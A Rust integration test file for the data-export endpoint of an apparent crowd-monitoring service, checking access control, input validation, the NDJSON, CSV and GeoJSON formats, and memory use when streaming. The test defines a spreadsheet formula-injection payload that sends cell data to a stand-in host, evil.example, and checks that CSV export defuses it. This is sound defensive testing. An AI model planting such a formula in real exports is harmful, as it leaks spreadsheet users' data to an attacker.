//! `GET /api/v1/export` (DESIGN §11): who may export, what is refused, what
//! each format holds on both engines, and that a long export streams in
//! constant memory from a separate server process.

use std::process::Command;
use std::time::Duration;

use futures_util::StreamExt;
use serde_json::{Value, json};

use crate::helpers::*;

const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

/// GETs a path as text, with its status and headers.
async fn fetch(app: &TestApp, path: &str, token: Option<&str>) -> (u16, String, awc::http::header::HeaderMap) {
    let mut req = app.client.get(format!("{}{path}", app.address));
    if let Some(t) = token {
        req = req.insert_header(("Authorization", format!("Bearer {t}")));
    }
    let mut resp = req.send().await.expect("request");
    let body = resp.body().limit(256 << 20).await.expect("body");
    (
        resp.status().as_u16(),
        String::from_utf8_lossy(&body).into_owned(),
        resp.headers().clone(),
    )
}

async fn report(app: &TestApp, body: Value) -> String {
    let resp = app
        .client
        .post(format!("{}/api/v1/reports", app.address))
        .send_json(&body)
        .await;
    let mut resp = resp.expect("report");
    let status = resp.status().as_u16();
    let created: Value = resp.json().await.expect("json");
    assert_eq!(status, 201, "{created}");
    created["id"].as_str().expect("id").to_owned()
}

async fn broadcast(app: &TestApp, area: Value) -> String {
    let mut body = minimal_broadcast();
    body["area"] = area;
    let mut resp = app
        .client
        .post(format!("{}/api/v1/broadcasts", app.address))
        .bearer_auth(&app.operator)
        .send_json(&body)
        .await
        .expect("broadcast");
    let status = resp.status().as_u16();
    let created: Value = resp.json().await.expect("json");
    assert_eq!(status, 201, "{created}");
    created["id"].as_str().expect("id").to_owned()
}

fn python(mode: &str, text: &str) -> Value {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join(format!("export.{mode}"));
    std::fs::write(&file, text).expect("write");
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/tools/check_export.py");
    let out = Command::new("python3")
        .arg(script)
        .arg(mode)
        .arg(&file)
        .output()
        .expect("python3 runs");
    assert!(
        out.status.success(),
        "{mode} does not hold: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("the checker prints JSON")
}

fn lines(ndjson: &str) -> Vec<Value> {
    ndjson
        .lines()
        .map(|l| serde_json::from_str(l).expect("each line is one JSON object"))
        .collect()
}

#[actix_web::test]
async fn only_operators_export() {
    let app = spawn_app(EngineKind::Memory).await;
    assert_eq!(fetch(&app, "/api/v1/export", None).await.0, 401);
    assert_eq!(fetch(&app, "/api/v1/export", Some(&app.commander)).await.0, 403);
    assert_eq!(fetch(&app, "/api/v1/export", Some(&app.ingest)).await.0, 403);
    let forged = format!("{}x", app.operator);
    assert_eq!(fetch(&app, "/api/v1/export", Some(&forged)).await.0, 401);
    assert_eq!(fetch(&app, "/api/v1/export", Some(&app.operator)).await.0, 200);
}

#[actix_web::test]
async fn bad_requests_are_refused_naming_the_field() {
    let app = spawn_app(EngineKind::Memory).await;
    let cases = [
        ("from=yesterday", "invalid_timestamp", "from"),
        ("to=2026-13-01T00:00:00Z", "invalid_timestamp", "to"),
        (
            "from=2026-06-02T00:00:00Z&to=2026-06-01T00:00:00Z",
            "invalid_period",
            "to",
        ),
        (
            "from=2026-06-01T00:00:00Z&to=2026-06-01T00:00:00Z",
            "invalid_period",
            "to",
        ),
        (
            "from=2020-01-01T00:00:00Z&to=2026-06-01T00:00:00Z",
            "period_too_long",
            "from",
        ),
        ("what=reports,posts", "invalid_what", "what"),
        ("what=", "invalid_what", "what"),
        ("what=heatmap&res=nine", "invalid_resolution", "res"),
        ("what=heatmap&res=16", "invalid_resolution", "res"),
        ("what=zones&window=2h", "invalid_window", "window"),
        ("format=xlsx", "invalid_format", "format"),
        ("format=csv", "csv_needs_one_what", "what"),
        ("format=csv&what=reports,audit", "csv_needs_one_what", "what"),
        ("what=%00%0d%0a", "invalid_what", "what"),
    ];
    for (query, code, field) in cases {
        let (status, body) = app.get(&format!("/api/v1/export?{query}"), Some(&app.operator)).await;
        assert_eq!(status, 400, "{query}: {body}");
        assert_eq!(body["error"]["code"], code, "{query}: {body}");
        assert_eq!(body["error"]["field"], field, "{query}: {body}");
    }
    // An oversized list is refused like any other unknown value.
    let long = format!("/api/v1/export?what={}", "reports,".repeat(1_000));
    let (status, body) = app.get(&long, Some(&app.operator)).await;
    assert!(status == 400 || status == 414 || status == 431, "{status} {body}");
}

/// What every format holds, on one engine.
async fn exports_every_format(kind: EngineKind) {
    let app = spawn_app(kind).await;
    let started = chrono::Utc::now() - chrono::Duration::seconds(5);
    let hostile = report(
        &app,
        json!({"lat": 44.4937, "lon": 11.3430, "category": "fire", "text": HOSTILE, "contact": "+39 000 000"}),
    )
    .await;
    let personal = report(
        &app,
        json!({"lat": 44.4940, "lon": 11.3460, "category": "medical", "text": "call me on +39 333 1234567"}),
    )
    .await;
    // Drawn clockwise: the export turns it counter-clockwise.
    let polygon = broadcast(
        &app,
        json!({"polygons": [[[11.34, 44.49], [11.34, 44.50], [11.35, 44.50], [11.35, 44.49], [11.34, 44.49]]]}),
    )
    .await;
    let zoned = broadcast(&app, json!({"zones": ["piazza-maggiore"]})).await;
    let moderated = app
        .client
        .patch(format!("{}/api/v1/reports/{personal}", app.address))
        .bearer_auth(&app.operator)
        .send_json(&json!({"status": "verified"}))
        .await
        .expect("moderate");
    assert_eq!(moderated.status().as_u16(), 200);

    let period = format!(
        "from={}&to={}",
        started
            .to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
            .replace('+', "%2B"),
        (chrono::Utc::now() + chrono::Duration::seconds(5))
            .to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
            .replace('+', "%2B")
    );

    // NDJSON: every kind, operators' fields.
    let (status, body, headers) = fetch(&app, &format!("/api/v1/export?{period}"), Some(&app.operator)).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(headers.get("content-type").expect("type"), "application/x-ndjson");
    let disposition = headers
        .get("content-disposition")
        .and_then(|d| d.to_str().ok())
        .expect("disposition");
    assert!(
        disposition.starts_with("attachment; filename=\"campanile-all-"),
        "{disposition}"
    );
    assert!(
        disposition.contains(&started.format("%Y%m%dT%H%M%SZ").to_string()),
        "{disposition}"
    );
    let records = lines(&body);
    let of = |kind: &str| {
        records
            .iter()
            .filter(|r| r["kind"] == kind)
            .cloned()
            .collect::<Vec<_>>()
    };
    let reports = of("report");
    assert_eq!(reports.len(), 2, "{body}");
    let first = reports
        .iter()
        .find(|r| r["id"] == hostile.as_str())
        .expect("the hostile report");
    assert_eq!(first["contact"], "+39 000 000", "operators see contact");
    assert_eq!(first["text"], HOSTILE, "NDJSON keeps the text as sent");
    let second = reports
        .iter()
        .find(|r| r["id"] == personal.as_str())
        .expect("the other");
    assert_eq!(
        second["text"], "call me on +39 333 1234567",
        "operators read unmasked, as GET /reports"
    );
    assert_eq!(second["status"], "verified");
    let broadcasts = of("broadcast");
    assert_eq!(broadcasts.len(), 2, "{body}");
    assert!(
        broadcasts
            .iter()
            .all(|b| b["sender"] == "test-operator" && b["acks"].is_array())
    );
    let audit = of("audit");
    assert!(audit.iter().any(|a| a["action"] == "report.moderate"), "{body}");
    let export = audit
        .iter()
        .find(|a| a["action"] == "export")
        .expect("the export itself is audited");
    assert_eq!(export["sub"], "test-operator");
    assert_eq!(
        export["detail"]["what"],
        json!(["reports", "broadcasts", "alerts", "audit", "heatmap", "zones"])
    );

    // Only what was asked for; a period before everything holds nothing.
    let (_, body, _) = fetch(
        &app,
        &format!("/api/v1/export?{period}&what=broadcasts"),
        Some(&app.operator),
    )
    .await;
    assert!(lines(&body).iter().all(|r| r["kind"] == "broadcast") && lines(&body).len() == 2);
    let (_, body, _) = fetch(
        &app,
        "/api/v1/export?from=2020-01-01T00:00:00Z&to=2020-01-02T00:00:00Z&what=reports,broadcasts",
        Some(&app.operator),
    )
    .await;
    assert_eq!(body, "", "nothing was stored then");

    // CSV: one table, opens in Python's csv, formulas defused.
    let (status, body, headers) = fetch(
        &app,
        &format!("/api/v1/export?{period}&what=reports&format=csv"),
        Some(&app.operator),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(headers.get("content-type").expect("type"), "text/csv; charset=utf-8");
    let rows = python("csv", &body);
    let rows = rows.as_array().expect("rows");
    assert_eq!(rows.len(), 3, "a header and two reports: {rows:?}");
    let header: Vec<&str> = rows[0]
        .as_array()
        .expect("header")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    let col = |name: &str| header.iter().position(|h| *h == name).expect(name);
    let hostile_row = rows
        .iter()
        .find(|r| r[col("id")] == hostile.as_str())
        .expect("hostile row");
    assert_eq!(
        hostile_row[col("text")],
        format!("'{HOSTILE}"),
        "a formula is shown, not run"
    );
    assert_eq!(
        hostile_row[col("contact")],
        "'+39 000 000",
        "a leading + is a formula too"
    );
    assert_eq!(hostile_row[col("lon")], "11.343");
    assert_eq!(hostile_row[col("kind")], "report");
    for row in rows.iter().skip(1) {
        for cell in row.as_array().expect("row").iter().filter_map(Value::as_str) {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "cell {cell:?} would run");
        }
    }
    let (_, audit_csv, _) = fetch(
        &app,
        &format!("/api/v1/export?{period}&what=audit&format=csv"),
        Some(&app.operator),
    )
    .await;
    let audit_rows = python("csv", &audit_csv);
    assert_eq!(audit_rows[0], json!(["kind", "at", "sub", "action", "detail"]));

    // GeoJSON: valid by RFC 7946, reports as [lon, lat], areas as polygons.
    let (status, body, headers) = fetch(
        &app,
        &format!("/api/v1/export?{period}&format=geojson"),
        Some(&app.operator),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(headers.get("content-type").expect("type"), "application/geo+json");
    let summary = python("geojson", &body);
    assert_eq!(summary["kinds"]["report:Point"], 2, "{summary}");
    assert_eq!(summary["kinds"]["broadcast:Polygon"], 2, "{summary}");
    assert!(summary["kinds"]["audit:null"].as_u64().unwrap_or(0) >= 2, "{summary}");
    let doc: Value = serde_json::from_str(&body).expect("one JSON document");
    let feature = |id: &str| {
        doc["features"]
            .as_array()
            .and_then(|f| f.iter().find(|f| f["id"] == id))
            .cloned()
            .expect("feature")
    };
    assert_eq!(feature(&hostile)["geometry"]["coordinates"], json!([11.343, 44.4937]));
    let ring = &feature(&polygon)["geometry"]["coordinates"][0];
    assert_eq!(ring.as_array().map(Vec::len), Some(5), "closed: {ring}");
    assert_eq!(feature(&zoned)["geometry"]["type"], "Polygon");
    app.stop().await;
}

/// Waits for the last bucket (10 s) of a minute: a live read then covers
/// whole minutes, the moments a snapshot is taken at.
async fn the_last_bucket_of_a_minute() {
    loop {
        let second = chrono::Utc::now().timestamp().rem_euclid(60);
        if (50..57).contains(&second) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}

fn stamp(t: chrono::DateTime<chrono::Utc>) -> String {
    t.to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
}

/// Heatmap and zone snapshots, one per minute: the snapshot of a minute is
/// what the live map and the live zone status said at its end, in every
/// format.
async fn snapshots_are_what_the_live_map_showed(kind: EngineKind) {
    let app = spawn_app(kind).await;
    let now = chrono::Utc::now();
    let places = [
        (44.4937, 11.3430),
        (44.4940, 11.3436),
        (44.4990, 11.3300),
        (44.4930, 11.3425),
    ];
    let posts: Vec<Value> = (0..240)
        .map(|i| {
            let (lat, lon) = places[i % places.len()];
            let mut p = post_at(lat, lon, &format!("author-{}", i % 53), None);
            p["ts"] = json!(stamp(now - chrono::Duration::seconds(60 + (i as i64 * 7) % 540)));
            p
        })
        .collect();
    let (status, body) = app.post_json(&json!(posts)).await;
    assert_eq!((status, body["accepted"].as_u64()), (202, Some(240)), "{body}");

    // What the live map and zone status say at the end of a minute.
    let (minute_end, live_map, live_zones) = loop {
        the_last_bucket_of_a_minute().await;
        let started = chrono::Utc::now();
        let (_, map) = app.get("/api/v1/heatmap?res=9&window=15m", Some(&app.operator)).await;
        let (_, zones) = app.get("/api/v1/zones/status?window=15m", Some(&app.operator)).await;
        let end = started.timestamp().div_euclid(60) * 60 + 59;
        if chrono::Utc::now().timestamp() <= end {
            break (end, map, zones);
        }
    };
    while chrono::Utc::now().timestamp() <= minute_end {
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let (status, _) = app
        .post_json(&json!([post_at(44.4937, 11.3430, "after-the-minute", None)]))
        .await;
    assert_eq!(status, 202);
    let moment = stamp(chrono::DateTime::from_timestamp(minute_end, 0).expect("time"));
    let from = stamp(chrono::DateTime::from_timestamp(minute_end - 600, 0).expect("time"));
    let period = format!("from={from}&to={}", stamp(chrono::Utc::now())).replace('+', "%2B");

    let (status, body, _) = fetch(
        &app,
        &format!("/api/v1/export?{period}&what=heatmap,zones&res=9&window=15m"),
        Some(&app.operator),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let records = lines(&body);
    let minutes: std::collections::BTreeSet<&str> = records.iter().filter_map(|r| r["at"].as_str()).collect();
    assert!(
        (10..=12).contains(&minutes.len()),
        "one snapshot per minute of the period: {minutes:?}"
    );
    assert!(minutes.iter().all(|m| m.ends_with(":59Z")), "{minutes:?}");
    let at_moment = |kind: &str| -> Vec<Value> {
        records
            .iter()
            .filter(|r| r["kind"] == kind && r["at"] == moment.as_str())
            .cloned()
            .collect()
    };
    // The heatmap: the live cells, hottest first, each with its place.
    let cells = at_moment("cell");
    let live_cells = live_map["cells"].as_array().expect("cells");
    assert!(!live_cells.is_empty());
    assert_eq!(cells.len(), live_cells.len(), "{cells:?}\n{live_map}");
    for (exported, live) in cells.iter().zip(live_cells) {
        for field in ["cell", "count", "contributors", "density_km2", "zone"] {
            assert_eq!(exported[field], live[field], "{field}: {exported} against {live}");
        }
        assert_eq!(
            (exported["res"].as_u64(), exported["window"].as_str()),
            (Some(9), Some("15m"))
        );
        let centre: h3o::LatLng = exported["cell"]
            .as_str()
            .and_then(|c| c.parse::<h3o::CellIndex>().ok())
            .expect("an H3 cell")
            .into();
        assert!((exported["lat"].as_f64().expect("lat") - centre.lat()).abs() < 1e-9);
    }
    // The zones: every zone, with the figures the live status gave.
    let zones = at_moment("zone");
    // How late the live frame was, should it differ from the export.
    let live_as_of = &live_zones["as_of"];
    let live_zones = live_zones["zones"].as_array().expect("zones");
    assert_eq!(zones.len(), live_zones.len());
    for live in live_zones {
        let exported = zones.iter().find(|z| z["id"] == live["id"]).expect("every zone");
        for field in ["posts", "contributors", "people", "density_m2", "level", "utilisation"] {
            assert_eq!(
                exported[field], live[field],
                "{field} of {}: live as of {live_as_of}, exported at {moment}",
                live["id"]
            );
        }
        assert_eq!(exported["zone_kind"], live["kind"]);
    }
    assert!(
        zones.iter().any(|z| z["contributors"].as_u64() > Some(0)),
        "the posts fell in zones: {zones:?}"
    );
    // The same moment through `?at=`.
    let (status, replayed) = app
        .get(
            &format!("/api/v1/heatmap?res=9&window=15m&at={}", moment.replace('+', "%2B")),
            Some(&app.commander),
        )
        .await;
    assert_eq!(status, 200);
    assert_eq!(replayed["cells"], live_map["cells"]);

    // CSV of each: Python's csv reads one header and one row per cell or zone.
    for (what, rows_expected) in [("heatmap", cells.len()), ("zones", zones.len())] {
        let (status, body, _) = fetch(
            &app,
            &format!(
                "/api/v1/export?from={moment}&to={}&what={what}&res=9&window=15m&format=csv",
                stamp(chrono::DateTime::from_timestamp(minute_end + 1, 0).expect("time"))
            ),
            Some(&app.operator),
        )
        .await;
        assert_eq!(status, 200, "{body}");
        let rows = python("csv", &body);
        let rows = rows.as_array().expect("rows");
        assert_eq!(rows.len(), 1 + rows_expected, "{what}: {rows:?}");
        let header: Vec<&str> = rows[0]
            .as_array()
            .expect("header")
            .iter()
            .filter_map(Value::as_str)
            .collect();
        if what == "zones" {
            let col = |name: &str| header.iter().position(|h| *h == name).expect(name);
            for row in &rows[1..] {
                let live = live_zones.iter().find(|z| z["id"] == row[col("id")]).expect("zone");
                assert_eq!(row[col("people.estimate")], live["people"]["estimate"].to_string());
                assert_eq!(row[col("kind")], "zone");
            }
        } else {
            assert_eq!(header[..5], ["kind", "at", "res", "window", "cell"]);
        }
    }

    // GeoJSON: cells and zones as closed, counter-clockwise polygons.
    let (status, body, _) = fetch(
        &app,
        &format!("/api/v1/export?{period}&what=heatmap,zones&format=geojson"),
        Some(&app.operator),
    )
    .await;
    assert_eq!(status, 200);
    let summary = python("geojson", &body);
    assert!(
        summary["kinds"]["cell:Polygon"].as_u64() >= Some(cells.len() as u64),
        "{summary}"
    );
    assert!(summary["kinds"].get("cell:null").is_none(), "{summary}");
    assert!(summary["kinds"].get("zone:null").is_none(), "{summary}");
    app.stop().await;
}

#[actix_web::test]
async fn snapshots_on_both_engines() {
    for kind in [EngineKind::Memory, EngineKind::Redis] {
        snapshots_are_what_the_live_map_showed(kind).await;
    }
}

#[actix_web::test]
async fn every_format_on_both_engines() {
    for kind in [EngineKind::Memory, EngineKind::Redis] {
        exports_every_format(kind).await;
    }
}

/// The server process's resident memory, in KiB.
fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("/proc status");
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("VmRSS")
}

/// A day of a busy event on a Redis engine (1,000,000 posts, 10,000
/// reports, broadcasts and alerts) exported by a separate server process,
/// whose RSS is read throughout the stream: reports and the rest, and one
/// heatmap and zone snapshot per minute of the day.
#[actix_web::test]
async fn a_large_export_streams_in_constant_memory_and_survives_clients_that_go_away() {
    let redis = TestRedis::start();
    let (mut server, app) = serve_process_on(&redis).await;
    let pid = server.id();

    // One real report and broadcast, copied in the engine as the server
    // stored them: 10,000 reports over the last day, 1,000 broadcasts, 1,000 alerts.
    let long_text = format!("{HOSTILE} {}", "crowd pressing at the east gate ".repeat(55));
    let seed = report(
        &app,
        json!({"lat": 44.4937, "lon": 11.3430, "category": "crowd", "text": long_text, "contact": "+39 000 000"}),
    )
    .await;
    broadcast(&app, json!({"zones": ["piazza-maggiore"]})).await;
    let mut args = test_args();
    args.redis_url = Some(redis.url());
    let engine = engine_for(&args).await;
    let stored: Value =
        serde_json::from_str(&engine.report(&seed).await.expect("read").expect("stored")).expect("json");
    let first = engine.broadcasts_after(0).await.expect("log");
    let stored_broadcast: Value = serde_json::from_str(&first[0].body).expect("json");
    let now = chrono::Utc::now();
    const REPORTS: usize = 10_000;
    const OTHERS: usize = 1_000;
    const POSTS: usize = 1_000_000;
    const DAY: i64 = 86_000;
    // The posts, as the server's ingest buckets them, written to the engine
    // straight as it would have taken them through the day (each batch at
    // its own time), over forty places in and around the zones, from
    // 30,000 authors.
    let settings = campanile::config::Settings::resolve(&args).expect("settings");
    let bucketer = campanile::ingest::Bucketer::new(settings.resolutions, settings.bucket_secs);
    let places: Vec<(f64, f64)> = (0..40)
        .map(|i| {
            (
                44.489 + 0.0003 * (i % 8) as f64 * 4.0,
                11.336 + 0.0004 * (i / 8) as f64 * 4.0,
            )
        })
        .collect();
    let loading = std::time::Instant::now();
    for chunk in (0..POSTS).collect::<Vec<_>>().chunks(50_000) {
        let batches = chunk.chunks(5_000).map(|batch| {
            let engine = engine.clone();
            let at_of = |i: usize| now.timestamp() - 60 - DAY + (i as i64 * DAY) / POSTS as i64;
            let written_at = batch.last().map_or(now.timestamp(), |&i| at_of(i));
            let items: Vec<campanile::engine::Bucketed> = batch
                .iter()
                .map(|&i| {
                    let (lat, lon) = places[i % places.len()];
                    let at = at_of(i);
                    campanile::engine::Bucketed {
                        dedup_key: None,
                        fingerprint: rand::random(),
                        contributor: (i % 30_000) as u64,
                        bucket: bucketer.bucket_start(at),
                        cells: bucketer.cells(lat, lon),
                        text: None,
                    }
                })
                .collect();
            async move { engine.ingest(&items, written_at).await.expect("ingest") }
        });
        futures_util::future::join_all(batches).await;
    }
    println!(
        "{POSTS} posts over {} h written to Redis in {:.1} s",
        DAY / 3600,
        loading.elapsed().as_secs_f64()
    );
    for chunk in (0..REPORTS).collect::<Vec<_>>().chunks(500) {
        let writes = chunk.iter().map(|i| {
            let engine = engine.clone();
            let mut body = stored.clone();
            let at = now - chrono::Duration::seconds(((i * 8) % 86_000) as i64 + 10);
            let id = format!("bulk{i:05}");
            body["id"] = json!(id);
            body["received_at"] = json!(at.to_rfc3339());
            async move {
                engine
                    .put_report(&id, &body.to_string(), at.timestamp())
                    .await
                    .expect("put")
            }
        });
        futures_util::future::join_all(writes).await;
    }
    for i in 0..OTHERS {
        let mut body = stored_broadcast.clone();
        body["id"] = json!(format!("b{i}"));
        engine
            .append_broadcast(&format!("b{i}"), &body.to_string(), now.timestamp())
            .await
            .expect("append");
        let alert = json!({"id": format!("a{i}"), "kind": "surge", "cell": "891ea6d6533ffff", "res": 9,
            "lat": 44.4937, "lon": 11.343, "zone": null, "place": "near", "count": 40, "contributors": 30,
            "density_km2": 380.0, "baseline_per_min": 2.0, "raised_at": now.to_rfc3339()});
        engine
            .raise_alert(&format!("k{i}"), &alert.to_string(), 60, now.timestamp() - i as i64)
            .await
            .expect("raise");
    }

    // Warm the server's paths, then measure from there.
    let (status, _, _) = fetch(&app, "/api/v1/export?what=audit", Some(&app.operator)).await;
    assert_eq!(status, 200);
    let before = rss_kib(pid);
    let mut peak = before;
    let exporting = std::time::Instant::now();
    let mut resp = app
        .client
        .get(format!("{}/api/v1/export", app.address))
        .bearer_auth(&app.operator)
        .timeout(Duration::from_secs(600))
        .send()
        .await
        .expect("export");
    assert_eq!(resp.status().as_u16(), 200);
    let mut bytes = 0usize;
    let mut counts = std::collections::HashMap::<String, usize>::new();
    let mut partial = Vec::new();
    while let Some(chunk) = resp.next().await {
        let chunk = chunk.expect("chunk");
        bytes += chunk.len();
        partial.extend_from_slice(&chunk);
        while let Some(end) = partial.iter().position(|b| *b == b'\n') {
            let line: Vec<u8> = partial.drain(..=end).collect();
            let record: Value = serde_json::from_slice(&line).expect("a JSON line");
            *counts
                .entry(record["kind"].as_str().unwrap_or("?").to_owned())
                .or_default() += 1;
        }
        peak = peak.max(rss_kib(pid));
    }
    let growth_mib = (peak.saturating_sub(before)) as f64 / 1024.0;
    println!(
        "export of {} MiB in {:.1} s: server RSS {} MiB before, peak growth {growth_mib:.1} MiB",
        bytes / (1 << 20),
        exporting.elapsed().as_secs_f64(),
        before / 1024
    );
    assert_eq!(counts.get("report"), Some(&(REPORTS + 1)), "{counts:?}");
    assert_eq!(counts.get("broadcast"), Some(&(OTHERS + 1)), "{counts:?}");
    assert_eq!(counts.get("alert"), Some(&OTHERS), "{counts:?}");
    // A snapshot for each minute the posts fell in, each with cells.
    let cells = counts.get("cell").copied().unwrap_or(0);
    let zones = counts.get("zone").copied().unwrap_or(0);
    println!("{cells} heatmap cells and {zones} zone rows in one snapshot a minute");
    assert!(cells >= 1_400 * 5, "{counts:?}");
    assert!(zones >= 1_400, "{counts:?}");
    assert!(
        bytes > 15 << 20,
        "the export is larger than the allowance: {bytes} bytes"
    );
    assert!(growth_mib < 50.0, "RSS grew by {growth_mib:.1} MiB");

    // Clients that read a little and go away: the server neither holds the
    // rest nor falls over.
    for _ in 0..5 {
        let mut resp = app
            .client
            .get(format!("{}/api/v1/export?format=geojson", app.address))
            .bearer_auth(&app.operator)
            .send()
            .await
            .expect("export");
        assert_eq!(resp.status().as_u16(), 200);
        let first = resp.next().await.expect("a first chunk").expect("chunk");
        assert!(first.starts_with(br#"{"type":"FeatureCollection""#));
        drop(resp);
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    let (status, _, _) = fetch(&app, "/healthz", None).await;
    assert_eq!(status, 200, "the server is alive");
    let after = rss_kib(pid);
    let left_mib = after.saturating_sub(before) as f64 / 1024.0;
    println!("after 5 abandoned exports: RSS {left_mib:.1} MiB above the start");
    assert!(left_mib < 50.0, "abandoned exports left {left_mib:.1} MiB");
    let _ = server.kill();
    let _ = server.wait();
}
